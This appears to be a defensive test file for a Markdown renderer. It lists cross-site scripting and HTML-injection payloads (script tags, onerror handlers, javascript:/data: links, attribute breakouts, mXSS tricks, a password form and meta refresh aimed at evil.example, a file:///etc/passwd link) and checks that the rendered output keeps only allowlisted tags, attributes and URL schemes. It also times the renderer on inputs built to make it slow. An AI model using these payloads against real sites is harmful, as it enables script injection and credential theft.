import { highlightCode } from './highlightCode.ts'
import { renderMarkdown } from './renderMarkdown.ts'

const attacks = {
  script: '<script>window.hit = 1</script>',
  'script in a block': 'Text\n\n<script>\nwindow.hit = 1\n</script>\n\nText',
  'script that is cut in two': '<scr<script>ipt>window.hit = 1</scr</script>ipt>',
  'event handler': '<img src=x onerror="window.hit = 1">',
  'event handler without quotes': '<svg/onload=window.hit=1>',
  'javascript: link': '[x](javascript:window.hit=1)',
  'javascript: link in disguise': '[x](&#x6A;ava&#x0A;script:window.hit=1)',
  'javascript: link with a tab': '[x](<java\tscript:window.hit=1>)',
  'javascript: link by reference': '[x][y]\n\n[y]: JAVASCRIPT:window.hit=1',
  'javascript: autolink': '<javascript:window.hit=1>',
  'javascript: image': '![x](javascript:window.hit=1)',
  'vbscript: link': '[x](vbscript:msgbox)',
  'data: link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data: image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'file: link': '[x](file:///etc/passwd)',
  'attribute breakout in a title': '[x](/y "\\" onmouseover=\\"window.hit=1")',
  'attribute breakout in alt': '![x\\" onerror=\\"window.hit=1](/y.png)',
  'attribute breakout in an address': '[x](/y"onmouseover="window.hit=1)',
  'attribute breakout in a language': '```"><img/src=x/onerror=window.hit=1>\ncode\n```',
  'attribute breakout in a footnote':
    'a[^"><img/src=x/onerror=window.hit=1>]\n\n[^"><img/src=x/onerror=window.hit=1>]: b',
  'id taken over': '## <a id="root" name="boot">root</a>',
  'style element': '<style>body { display: none }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  'style of a classed element': '<div class="modal" style="z-index:9">x</div>',
  iframe: '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  form: '<form action="https://evil.example"><input name=password><button formaction="javascript:window.hit=1">x</button></form>',
  'meta and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'broken nesting': '<b><i></b></i></div></main></body><table><tr><script>window.hit=1</script>',
  'broken Markdown nesting': '**a _b** c_ [d **e](/f) g** `h ~~i` j~~',
  'comment and CDATA': '<!-- --!><img src=x onerror=window.hit=1> --> <![CDATA[<script>window.hit=1</script>]]>',
  'math and svg':
    '<math><mtext><table><mglyph><style><img src onerror=window.hit=1></style></mglyph></table></mtext></math>',
  'template of a script': '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  'end of our own element': '</div></div><h1>Fake page</h1>',
  'null and control characters': 'a\u0000b\u0007 [x](java\u0000script:window.hit=1) \ud800',
  'script as code': '```html\n<script>window.hit = 1</script>\n```',
}

const tags =
  'a blockquote br code del div em h2 h3 h4 h5 h6 hr img input li ol p pre section span strong sup table tbody td th thead tr ul'
const ours =
  /^(align|alt|aria-\w+|checked|class|data-footnote[\w-]*|decoding|disabled|height|href|id|loading|rel|role|src|start|tabindex|target|title|type|width)$/
const harmless = /^(https?:\/\/|mailto:|tel:|\/|#)|^[^:]*$/

describe.each(Object.entries(attacks))('Markdown with %s', (_name, attack) => {
  it.each([attack, `- > ${attack}`, `| ${attack} |\n|---|\n| ${attack} |`, `## ${attack}`])(
    'is shown harmlessly [POST-14]',
    (markdown) => {
      const body = document.createElement('div')
      document.body.append(body)
      body.innerHTML = renderMarkdown(markdown, highlightCode).html
      const elements = [...body.querySelectorAll('*')]
      expect(elements.map(({ localName }) => localName).filter((tag) => !tags.split(' ').includes(tag))).toEqual([])
      const attributes = elements.flatMap((element) => [...element.attributes])
      expect(attributes.map(({ name }) => name).filter((name) => !ours.test(name))).toEqual([])
      const addresses = attributes.filter(({ name }) => name === 'href' || name === 'src')
      expect(addresses.map(({ value }) => value).filter((value) => !harmless.test(value))).toEqual([])
      expect((window as { hit?: number }).hit).toBeUndefined()
      body.remove()
    },
  )
})

describe('Markdown made to take long', () => {
  const size = 100_000
  const fill = (piece: string) => piece.repeat(size / piece.length)

  it.each([
    '*a_',
    '[',
    '![',
    '[a](',
    '**a ',
    '> ',
    '>',
    '- ',
    '`',
    '<div>',
    '<!--',
    '&',
    '<a:',
    'www.',
    'a@',
    '|a',
    '[^a]',
    '\\',
    '#',
    '~',
    '_',
  ])(
    'by repeating %s is shown all the same, within seconds',
    (piece) => {
      const started = performance.now()
      expect(renderMarkdown(fill(piece)).html).not.toBe('')
      expect(performance.now() - started).toBeLessThan(8_000)
    },
    20_000,
  )
})
